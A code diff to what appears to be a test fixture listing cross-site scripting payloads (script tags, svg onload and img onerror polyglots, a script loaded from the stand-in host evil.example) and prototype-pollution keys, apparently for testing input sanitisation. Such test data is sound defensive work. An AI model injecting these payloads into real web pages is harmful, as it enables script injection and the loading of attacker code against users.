@@ -1,6 +1,11 @@
 // Texts that try to become a script, a picture from elsewhere or a way out of where they stand. Each would show a dialog.
 
-const CALLS = [
+/** One that holds many ways out, for the places that exist once. */
+export const ANY_WAY_OUT = '"\'></a></p><svg/onload=alert(1)><img src=x onerror=alert(1)>';
+
+/** All of them. */
+export const PAYLOADS: readonly string[] = [
+  ANY_WAY_OUT,
   '<script>alert(1)</script>',
   '<ScRiPt>alert(1)</sCrIpT>',
   '<script src=//evil.example/x.js></script>',
@@ -79,9 +84,3 @@ const CALLS = [
   '__proto__',
   'constructor',
 ];
-
-/** All of them; short enough for the name of a tag once cut, where the cut ones still begin like the whole. */
-export const PAYLOADS: readonly string[] = CALLS;
-
-/** One that holds many ways out, for the places that exist once. */
-export const ANY_WAY_OUT = '"\'></a></p><svg/onload=alert(1)><img src=x onerror=alert(1)>';
